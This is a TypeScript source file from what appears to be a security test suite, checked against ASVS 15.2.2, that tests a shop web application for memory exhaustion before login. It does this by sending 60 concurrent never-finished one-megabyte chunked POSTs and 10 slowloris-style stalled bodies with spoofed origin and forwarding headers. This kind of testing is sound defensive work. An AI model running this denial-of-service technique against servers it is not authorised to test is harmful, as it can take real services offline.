import { request as requestHttp } from "node:http";
import { request as requestHttps } from "node:https";
import type { AttackContext } from "@/attack/client/attack-context";
import { type Finding, judge } from "@/attack/client/finding";
import type { Shop } from "@/attack/client/shop-client";

const types = [
  "application/octet-stream",
  "text/plain",
  "application/x-www-form-urlencoded",
  "application/json",
  "multipart/form-data; boundary=x",
  "nonsense",
];
const paths = ["/login", "/register", "/", "/api/language", "/api/auth/callback/credentials"];
const item = { asvs: "15.2.2", requirement: "R40" };
/** A slow body has 20 seconds; a server that ends none waits five minutes, as Node does by itself. In milliseconds. */
const patienceMs = 40_000;

/** Fills the shop's memory before any login: many requests at one time whose bodies are huge, odd or never end. */
export async function attackWithUnfinishedBodies({ shop }: Pick<AttackContext, "shop">): Promise<Finding[]> {
  const huge = await Promise.all(
    Array.from({ length: 60 }, (_, index) => leaveUnfinished(shop, index, Buffer.alloc(1_000_000, "x"))),
  );
  const slow = await Promise.all(
    Array.from({ length: 10 }, (_, index) => leaveUnfinished(shop, index, Buffer.alloc(500, "x"))),
  );
  return [
    judge(
      { ...item, tried: "60 unfinished POSTs of a megabyte at one time, of six content types" },
      huge.filter((end) => end !== "413" && end !== "closed").map((end) => `one ended with ${end}`),
      "each was refused while it arrived",
    ),
    judge(
      { ...item, tried: "10 POSTs whose bodies stop after 500 bytes" },
      slow.filter((end) => end === "nothing").map(() => "one was kept open"),
      "each was ended",
    ),
  ];
}

/** Posts a body without a length and never ends it. Gives the status of the answer, "closed", or "nothing" in time. */
function leaveUnfinished({ url, source }: Shop, index: number, body: Buffer): Promise<string> {
  const request = url.protocol === "https:" ? requestHttps : requestHttp;
  const headers = {
    "content-type": types[index % types.length],
    "transfer-encoding": "chunked",
    "sec-fetch-site": "same-origin",
    origin: url.origin,
    ...(source === null ? {} : { "x-forwarded-for": source }),
  };
  return new Promise((resolve) => {
    const sent = request(new URL(paths[index % paths.length] ?? "/", url), { method: "POST", headers, agent: false });
    const timer = setTimeout(() => end("nothing"), patienceMs);
    const end = (how: string) => {
      clearTimeout(timer);
      sent.destroy();
      resolve(how);
    };
    sent.on("response", ({ statusCode }) => end(String(statusCode)));
    sent.on("error", () => end("closed"));
    sent.write(body);
  });
}
